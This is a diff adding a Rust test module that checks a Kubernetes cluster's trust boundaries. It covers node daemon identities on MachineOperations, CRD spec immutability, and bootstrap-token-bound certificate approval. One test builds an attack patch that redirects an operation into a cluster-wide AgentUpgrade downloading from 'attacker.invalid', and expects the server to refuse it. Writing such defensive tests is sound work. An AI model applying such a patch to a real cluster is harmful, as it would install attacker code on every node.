@@ -1,0 +1,572 @@
+//! The `trust` cluster group: the cluster's trust boundaries, shown against the real API
+//! server with identities the checks make for the purpose (issue #13, items 1 and 2).
+//!
+//! 1. Another node's daemon identity (a client certificate for `system:node:<other>` in
+//!    `system:nodes` and the daemon group, signed by the cluster's signer) cannot create an
+//!    operation, change an operation's spec, write the status of one aimed at another machine
+//!    or claimed by another node, or delete it; the same identity can claim the operations
+//!    aimed at its own machine (so the refusals are the policy's, not a broken identity).
+//! 2. The CRD refuses an administrator's spec edit and an empty selector.
+//! 3. A bootstrap token gets a daemon certificate only for the node whose machine entry names
+//!    it, and none for a node that already holds one (the approver's positive case is shown
+//!    with the token the entry names).
+//!
+//! Every object the checks make carries a `trust-<stamp>` name and goes at the end; the VM's
+//! node is only read (its machine entry and certificate stay as `up` made them).
+
+use std::path::PathBuf;
+use std::time::{Duration, Instant};
+
+use base64::Engine as _;
+use flex_host::secret::Secret;
+use serde_json::{Value, json};
+
+use super::checks::{Env, in_cluster};
+use super::kube::{Kubectl, Seen, poll};
+use super::render;
+use super::token::BootstrapToken;
+use crate::check::{Group, Needs, check, secs};
+use crate::report::Checked;
+
+/// The `trust` group.
+pub const TRUST: Group = Group {
+    name: "trust",
+    description: "the API server refuses another node's identity on this node's MachineOperations and certificate, and the CRD keeps specs immutable and selectors non-empty",
+    needs: Needs::Cluster,
+    checks: &[
+        check!(
+            "another node's daemon identity cannot create, edit, finish or delete operations aimed elsewhere, and can claim its own",
+            operations_confined,
+            via in_cluster
+        ),
+        check!(
+            "an operation's spec is immutable and an empty selector is refused, for administrators too",
+            spec_rules,
+            via in_cluster
+        ),
+        check!(
+            "a bootstrap token gets a daemon certificate only for the node its machine entry names, and only once",
+            token_bound,
+            via in_cluster
+        ),
+    ],
+};
+
+/// The label every object of the group carries.
+const TRUST_LABEL: &str = "aks-flex-harness/trust";
+/// How long a request that must not be approved is watched (the approver looks at once, then
+/// every 15 s).
+const NOT_APPROVED_FOR: Duration = Duration::from_secs(25);
+/// How long an approval and signature may take.
+const ISSUE_TIMEOUT: Duration = Duration::from_secs(90);
+
+/// The API server and CA from the admin kubeconfig, as a kubeconfig for `user` (JSON).
+async fn kubeconfig_for(k: &Kubectl<'_>, user: Value) -> anyhow::Result<String> {
+    let admin: Value = serde_json::from_str(
+        &k.run([
+            "config",
+            "view",
+            "--raw",
+            "--minify",
+            "--flatten",
+            "-o",
+            "json",
+        ])
+        .await?,
+    )?;
+    let cluster = admin["clusters"][0]["cluster"].clone();
+    if cluster["server"].as_str().unwrap_or_default().is_empty() {
+        anyhow::bail!("the admin kubeconfig names no server");
+    }
+    Ok(serde_json::to_string_pretty(&json!({
+        "apiVersion": "v1",
+        "kind": "Config",
+        "clusters": [{"name": "c", "cluster": cluster}],
+        "users": [{"name": "u", "user": user}],
+        "contexts": [{"name": "c", "context": {"cluster": "c", "user": "u"}}],
+        "current-context": "c",
+    }))?)
+}
+
+/// A PKCS#10 request (PEM) for `system:node:<node>` in `system:nodes` and the daemon group, as
+/// the agent asks; and its key (PEM).
+fn daemon_request(node: &str) -> anyhow::Result<(String, Secret)> {
+    use rcgen::{CertificateParams, DistinguishedName, DnType, KeyPair};
+    let key = KeyPair::generate()?;
+    let mut dn = DistinguishedName::new();
+    dn.push(DnType::CommonName, format!("system:node:{node}"));
+    dn.push(DnType::OrganizationName, "system:nodes");
+    dn.push(
+        DnType::CustomDnType(vec![2, 5, 4, 10]),
+        flex_api::machina::DAEMON_GROUP,
+    );
+    let mut params = CertificateParams::default();
+    params.distinguished_name = dn;
+    let pem = params.serialize_request(&key)?.pem()?;
+    Ok((pem, Secret::new(key.serialize_pem())))
+}
+
+/// The CertificateSigningRequest `name` carrying `request`, for the daemon signer, 10 minutes.
+fn csr_doc(name: &str, request: &str) -> String {
+    let b64 = base64::engine::general_purpose::STANDARD;
+    json!({
+        "apiVersion": "certificates.k8s.io/v1",
+        "kind": "CertificateSigningRequest",
+        "metadata": {"name": name, "labels": {TRUST_LABEL: "true"}},
+        "spec": {
+            "request": b64.encode(request.as_bytes()),
+            "signerName": "kubernetes.io/kube-apiserver-client",
+            "usages": ["digital signature", "client auth"],
+            "expirationSeconds": 600,
+        },
+    })
+    .to_string()
+}
+
+/// The approval state of CSR `name`: `Approved`/`Denied` and whether a certificate is issued.
+async fn csr_state(k: &Kubectl<'_>, name: &str) -> anyhow::Result<(Option<String>, String)> {
+    let v: Value = serde_json::from_str(&k.run(["get", "csr", name, "-o", "json"]).await?)?;
+    let decided = v["status"]["conditions"]
+        .as_array()
+        .into_iter()
+        .flatten()
+        .filter_map(|c| c["type"].as_str())
+        .find(|t| matches!(*t, "Approved" | "Denied"))
+        .map(str::to_string);
+    let cert = v["status"]["certificate"]
+        .as_str()
+        .unwrap_or_default()
+        .to_string();
+    Ok((decided, cert))
+}
+
+/// Waits until CSR `name` carries a certificate; returns it (PEM).
+async fn wait_issued(e: &Env<'_>, k: Kubectl<'_>, name: &str) -> anyhow::Result<String> {
+    let b64 = base64::engine::general_purpose::STANDARD;
+    let cert = poll(
+        &format!("CertificateSigningRequest {name} to be approved and signed"),
+        ISSUE_TIMEOUT,
+        e.pace,
+        || async move {
+            Ok(match csr_state(&k, name).await? {
+                (Some(d), _) if d == "Denied" => Seen::Fail("denied".into()),
+                (_, c) if !c.is_empty() => Seen::Done(c),
+                (d, _) => Seen::Not(d.unwrap_or_else(|| "pending".into())),
+            })
+        },
+    )
+    .await?;
+    Ok(String::from_utf8(b64.decode(cert.as_bytes())?)?)
+}
+
+/// Files the group writes (kubeconfigs holding keys or tokens), removed at the end.
+struct Scratch {
+    dir: PathBuf,
+}
+
+impl Scratch {
+    fn new(e: &Env<'_>) -> anyhow::Result<Self> {
+        let dir = super::kube::cluster_dir(e.work).join(format!("trust-{}", e.stamp));
+        std::fs::create_dir_all(&dir)?;
+        Ok(Self { dir })
+    }
+
+    fn write(&self, name: &str, text: &str) -> anyhow::Result<PathBuf> {
+        let p = self.dir.join(name);
+        super::existing::write_private(&p, text.as_bytes())?;
+        Ok(p)
+    }
+}
+
+impl Drop for Scratch {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.dir);
+    }
+}
+
+/// A daemon identity for `node`, signed by the cluster (an administrator creates and approves
+/// the request): the kubeconfig that uses it.
+async fn node_identity(e: &Env<'_>, s: &Scratch, node: &str) -> anyhow::Result<PathBuf> {
+    let (request, key) = daemon_request(node)?;
+    let name = format!("trust-{}-{node}", e.stamp);
+    e.kubectl.apply(&csr_doc(&name, &request)).await?;
+    e.kubectl.run(["certificate", "approve", &name]).await?;
+    let cert = wait_issued(e, e.kubectl, &name).await?;
+    let b64 = base64::engine::general_purpose::STANDARD;
+    let kc = kubeconfig_for(
+        &e.kubectl,
+        json!({
+            "client-certificate-data": b64.encode(cert.as_bytes()),
+            "client-key-data": b64.encode(key.expose().as_bytes()),
+        }),
+    )
+    .await?;
+    s.write(&format!("{node}.kubeconfig"), &kc)
+}
+
+/// The operation `name` aimed at `target` (`machineRef`), or by the selector `label=stamp`
+/// when `target` is empty.
+fn operation(e: &Env<'_>, name: &str, target: &str) -> String {
+    let mut doc: Value = serde_json::from_str(&render::machine_operation(
+        name,
+        flex_api::machina::NODE_REBOOT,
+        target,
+        &[],
+    ))
+    .unwrap_or_default();
+    doc["metadata"]["labels"][TRUST_LABEL] = json!("true");
+    if target.is_empty() {
+        doc["spec"] = json!({
+            "operationKind": flex_api::machina::NODE_REBOOT,
+            "machineSelector": {"matchLabels": {TRUST_LABEL: e.stamp.to_string()}},
+        });
+    }
+    doc.to_string()
+}
+
+/// `f`'s error text, or a failure naming `what` when it succeeded.
+async fn refused<F>(what: &str, f: F) -> anyhow::Result<String>
+where
+    F: std::future::Future<Output = anyhow::Result<String>>,
+{
+    match f.await {
+        Ok(out) => anyhow::bail!("{what} was allowed ({})", out.trim()),
+        Err(e) => Ok(format!("{e:#}")),
+    }
+}
+
+/// Fails unless `text` (a refusal) contains `want`, naming `what`.
+fn because(what: &str, text: &str, want: &str) -> anyhow::Result<()> {
+    if text.contains(want) {
+        Ok(())
+    } else {
+        anyhow::bail!("{what} was refused, but not by {want:?}: {text}")
+    }
+}
+
+/// Removes the group's objects.
+async fn clean(e: &Env<'_>) {
+    let sel = format!("{TRUST_LABEL}=true");
+    for kind in ["machineoperations", "csr"] {
+        let _ = e
+            .kubectl
+            .run([
+                "delete",
+                kind,
+                "-l",
+                &sel,
+                "--ignore-not-found",
+                "--wait=false",
+            ])
+            .await;
+    }
+    let _ = e
+        .kubectl
+        .run([
+            "-n",
+            render::NAMESPACE,
+            "delete",
+            "secret",
+            "-l",
+            &sel,
+            "--ignore-not-found",
+        ])
+        .await;
+}
+
+async fn operations_confined(e: &Env<'_>) -> anyhow::Result<Checked> {
+    let t = Instant::now();
+    let r = confined(e).await;
+    clean(e).await;
+    r.map(|n| {
+        Checked::passed_with(format!(
+            "{n} refusals, 3 own writes, in {}",
+            secs(t.elapsed())
+        ))
+    })
+}
+
+async fn confined(e: &Env<'_>) -> anyhow::Result<usize> {
+    let s = Scratch::new(e)?;
+    let st = e.stamp;
+    let (me, other, victim) = (
+        format!("trust-{st}-intruder"),
+        format!("trust-{st}-other"),
+        format!("trust-{st}-victim"),
+    );
+    let (aimed, own, by_label) = (
+        format!("trust-{st}-aimed-elsewhere"),
+        format!("trust-{st}-own"),
+        format!("trust-{st}-by-label"),
+    );
+    let admin = e.kubectl;
+    for (name, target) in [
+        (&aimed, victim.as_str()),
+        (&own, me.as_str()),
+        (&by_label, ""),
+    ] {
+        admin.apply(&operation(e, name, target)).await?;
+    }
+    let me_kc = node_identity(e, &s, &me).await?;
+    let other_kc = node_identity(e, &s, &other).await?;
+    let k = e.kubectl.with_kubeconfig(&me_kc);
+    let k2 = e.kubectl.with_kubeconfig(&other_kc);
+    let mop = "machineoperation";
+    let status = "--subresource=status";
+    let mut n = 0;
+    // The seed's attack: turn another node's operation into an AgentUpgrade for every node.
+    let attack = json!({"spec": {
+        "machineSelector": {},
+        "operationKind": "AgentUpgrade",
+        "parameters": {"downloadURL": "https://attacker.invalid/agent.tar.gz", "sha256": "0".repeat(64)},
+    }})
+    .to_string();
+    let why = refused(
+        "the intruder's spec patch",
+        k.run(["patch", mop, &aimed, "--type=merge", "-p", &attack]),
+    )
+    .await?;
+    because("the intruder's spec patch", &why, "forbidden")?;
+    n += 1;
+    let why = refused(
+        "the intruder's create",
+        k.apply(&operation(e, &format!("trust-{st}-created"), &victim)),
+    )
+    .await?;
+    because("the intruder's create", &why, "forbidden")?;
+    n += 1;
+    for (what, body) in [
+        (
+            "resetting another machine's operation to Pending",
+            json!({"status": {"phase": "Pending", "claimedBy": me}}),
+        ),
+        (
+            "finishing another machine's operation",
+            json!({"status": {"phase": "Complete"}}),
+        ),
+    ] {
+        let why = refused(
+            what,
+            k.run([
+                "patch",
+                mop,
+                &aimed,
+                status,
+                "--type=merge",
+                "-p",
+                &body.to_string(),
+            ]),
+        )
+        .await?;
+        because(what, &why, "may not change MachineOperation")?;
+        n += 1;
+    }
+    let why = refused(
+        "deleting another machine's operation",
+        k.run(["delete", mop, &aimed]),
+    )
+    .await?;
+    because(
+        "deleting another machine's operation",
+        &why,
+        "may not change MachineOperation",
+    )?;
+    n += 1;
+    // Its own: claimed, then not handed to someone else's name.
+    let claim = json!({"status": {"phase": "InProgress", "claimedBy": me}}).to_string();
+    k.run(["patch", mop, &own, status, "--type=merge", "-p", &claim])
+        .await?;
+    let why = refused(
+        "naming another node as the claimer",
+        k.run([
+            "patch",
+            mop,
+            &own,
+            status,
+            "--type=merge",
+            "-p",
+            &json!({"status": {"claimedBy": victim}}).to_string(),
+        ]),
+    )
+    .await?;
+    because(
+        "naming another node as the claimer",
+        &why,
+        "status.claimedBy only to its own node",
+    )?;
+    n += 1;
+    // A selector operation: the first claim stands, and another node cannot take it over.
+    k.run([
+        "patch",
+        mop,
+        &by_label,
+        status,
+        "--type=merge",
+        "-p",
+        &claim,
+    ])
+    .await?;
+    let theirs = json!({"status": {"phase": "Pending", "claimedBy": other}}).to_string();
+    let why = refused(
+        "taking over another node's claim",
+        k2.run([
+            "patch",
+            mop,
+            &by_label,
+            status,
+            "--type=merge",
+            "-p",
+            &theirs,
+        ]),
+    )
+    .await?;
+    because(
+        "taking over another node's claim",
+        &why,
+        "may not change MachineOperation",
+    )?;
+    n += 1;
+    // And it finishes its own.
+    let done = json!({"status": {"phase": "Complete", "claimedBy": me}}).to_string();
+    k.run(["patch", mop, &own, status, "--type=merge", "-p", &done])
+        .await?;
+    Ok(n)
+}
+
+async fn spec_rules(e: &Env<'_>) -> anyhow::Result<Checked> {
+    let t = Instant::now();
+    let r = spec_rules_inner(e).await;
+    clean(e).await;
+    r.map(|()| Checked::passed_with(format!("both refused in {}", secs(t.elapsed()))))
+}
+
+async fn spec_rules_inner(e: &Env<'_>) -> anyhow::Result<()> {
+    let st = e.stamp;
+    let name = format!("trust-{st}-spec");
+    let admin = e.kubectl;
+    admin
+        .apply(&operation(e, &name, &format!("trust-{st}-victim")))
+        .await?;
+    let edit = json!({"spec": {"operationKind": "AgentReset"}}).to_string();
+    let why = refused(
+        "an administrator's spec edit",
+        admin.run([
+            "patch",
+            "machineoperation",
+            &name,
+            "--type=merge",
+            "-p",
+            &edit,
+        ]),
+    )
+    .await?;
+    because("an administrator's spec edit", &why, "spec is immutable")?;
+    let mut empty: Value = serde_json::from_str(&operation(e, &format!("trust-{st}-empty"), ""))?;
+    empty["spec"]["machineSelector"] = json!({});
+    let why = refused("an empty selector", admin.apply(&empty.to_string())).await?;
+    because(
+        "an empty selector",
+        &why,
+        "an empty selector matches no machine",
+    )?;
+    Ok(())
+}
+
+async fn token_bound(e: &Env<'_>) -> anyhow::Result<Checked> {
+    let t = Instant::now();
+    let r = token_bound_inner(e).await;
+    clean(e).await;
+    let _ = e
+        .kubectl
+        .run([
+            "-n",
+            render::NAMESPACE,
+            "patch",
+            "configmap",
+            render::MACHINES_CONFIG_MAP,
+            "--type=json",
+            "-p",
+            &format!(
+                r#"[{{"op":"remove","path":"/data/trust-{}-bound.json"}}]"#,
+                e.stamp
+            ),
+        ])
+        .await;
+    r.map(|m| Checked::passed_with(format!("{m}, in {}", secs(t.elapsed()))))
+}
+
+/// A bootstrap token Secret labelled for the group.
+async fn make_token(e: &Env<'_>) -> anyhow::Result<BootstrapToken> {
+    let token = BootstrapToken::generate()?;
+    let doc = render::token_secret(&token);
+    let mut v: Value = serde_json::from_str(doc.expose())?;
+    v["metadata"]["labels"][TRUST_LABEL] = json!("true");
+    e.kubectl
+        .apply_secret(&Secret::new(v.to_string()), &[token.secret().expose()])
+        .await?;
+    Ok(token)
+}
+
+/// Submits a daemon CSR named `name` for `node` as `k`'s identity.
+async fn submit(k: Kubectl<'_>, name: String, node: String) -> anyhow::Result<String> {
+    let (req, _key) = daemon_request(&node)?;
+    k.apply(&csr_doc(&name, &req)).await?;
+    Ok(name)
+}
+
+async fn token_bound_inner(e: &Env<'_>) -> anyhow::Result<String> {
+    let s = Scratch::new(e)?;
+    let st = e.stamp;
+    let bound = format!("trust-{st}-bound");
+    let (good, stray) = (make_token(e).await?, make_token(e).await?);
+    let entry = render::machine_entry(&bound, &e.info.kubernetes_version, "trust", good.id())?;
+    let patch = json!({"data": {format!("{bound}.json"): entry}}).to_string();
+    e.kubectl
+        .run([
+            "-n",
+            render::NAMESPACE,
+            "patch",
+            "configmap",
+            render::MACHINES_CONFIG_MAP,
+            "--type=merge",
+            "-p",
+            &patch,
+        ])
+        .await?;
+    let mut kcs = Vec::new();
+    for (t, file) in [(&good, "good.kubeconfig"), (&stray, "stray.kubeconfig")] {
+        let kc = kubeconfig_for(&e.kubectl, json!({"token": t.token().expose()})).await?;
+        kcs.push(s.write(file, &kc)?);
+    }
+    let (k_good, k_stray) = (
+        e.kubectl.with_kubeconfig(&kcs[0]),
+        e.kubectl.with_kubeconfig(&kcs[1]),
+    );
+    // The stray token asks for the bound node, and the good one for the VM's node (whose entry
+    // names up's token): neither may be approved.
+    let wrong_token = submit(k_stray, format!("trust-{st}-wrong-token"), bound.clone()).await?;
+    let wrong_node = submit(
+        k_good,
+        format!("trust-{st}-wrong-node"),
+        e.node().to_string(),
+    )
+    .await?;
+    // The good token for its node is: the approver is at work.
+    let first = submit(k_good, format!("trust-{st}-first"), bound.clone()).await?;
+    let t = Instant::now();
+    wait_issued(e, e.kubectl, &first).await?;
+    let issued_in = t.elapsed();
+    // Once it holds a certificate, the same token gets no second one.
+    let second = submit(k_good, format!("trust-{st}-second"), bound.clone()).await?;
+    tokio::time::sleep(e.pace.timeout(NOT_APPROVED_FOR)).await;
+    for name in [&wrong_token, &wrong_node, &second] {
+        if let (Some(d), _) = csr_state(&e.kubectl, name).await? {
+            anyhow::bail!("CertificateSigningRequest {name} was {d}; it must stay pending");
+        }
+    }
+    Ok(format!(
+        "the named token's request signed in {}; the other token's, the request for another node and the second request still pending after {}",
+        secs(issued_in),
+        secs(NOT_APPROVED_FOR)
+    ))
+}
